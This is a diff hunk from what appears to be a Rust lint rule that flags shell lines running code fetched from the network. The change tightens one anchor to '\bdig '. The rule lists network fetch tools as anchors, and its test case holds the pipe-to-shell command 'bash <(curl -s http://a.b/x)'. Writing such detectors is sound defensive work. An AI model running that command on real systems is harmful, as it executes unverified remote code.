@@ -12,7 +12,7 @@ pub(super) const RULE: Rule = Rule {
     why: "What another machine sends is run, nobody has seen it before, and it can be different each time.",
     fix: "download into a file, check it against a known hash, and run the file",
     places: ANYWHERE,
-    anchors: &["curl", "wget", "aria2c", "nslookup", "dig ", "lynx"],
+    anchors: &["curl", "wget", "aria2c", "nslookup", "\\bdig ", "lynx"],
     check: Check::Unit(hits),
     hits: &[
         text("`bash <(curl -s http://a.b/x)`"),
